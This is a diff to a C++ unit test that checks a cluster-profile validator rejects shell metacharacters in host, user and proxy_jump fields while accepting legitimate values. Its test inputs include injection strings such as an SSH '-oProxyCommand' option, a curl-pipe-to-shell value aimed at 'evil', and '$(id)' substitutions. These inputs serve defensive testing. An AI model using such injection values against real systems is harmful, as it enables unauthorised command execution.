@@ -2,8 +2,8 @@
 // config folder.
 #include <gtest/gtest.h>
 
-#include "temp_dir.h"
 #include <unistd.h>
+#include "temp_dir.h"
 
 #include <cstdlib>
 #include <filesystem>
@@ -61,6 +61,25 @@ TEST(ClusterProfile, ErrorsNameTheField) {
     ClusterProfile p = sample();
     p.host = "-oProxyCommand=touch /tmp/x";
     EXPECT_NE(validate_profile(p).message().find("host"), std::string::npos);
+    for (const char* bad : {"x;curl${IFS}evil|sh", "a`id`", "h$(id)", "a'b", "a|b", "a&b", "a>b", "h~"}) {
+        p = sample();
+        p.host = bad;
+        EXPECT_NE(validate_profile(p).message().find("host: must not contain shell characters"),
+                  std::string::npos)
+            << bad;
+        p = sample();
+        p.user = bad;
+        EXPECT_NE(validate_profile(p).message().find("user:"), std::string::npos) << bad;
+        p = sample();
+        p.proxy_jump = bad;
+        EXPECT_NE(validate_profile(p).message().find("proxy_jump:"), std::string::npos) << bad;
+    }
+    // Legitimate host names, IPs, user names and hop lists still pass.
+    p = sample();
+    p.host = "10.0.0.5";
+    p.user = "first.last-2_x";
+    p.proxy_jump = "bob@[fe80::1]:2222,ssh://gate.example.org";
+    EXPECT_TRUE(validate_profile(p).ok()) << validate_profile(p).message();
     p = sample();
     p.name = "a b";
     EXPECT_FALSE(validate_profile(p).ok());
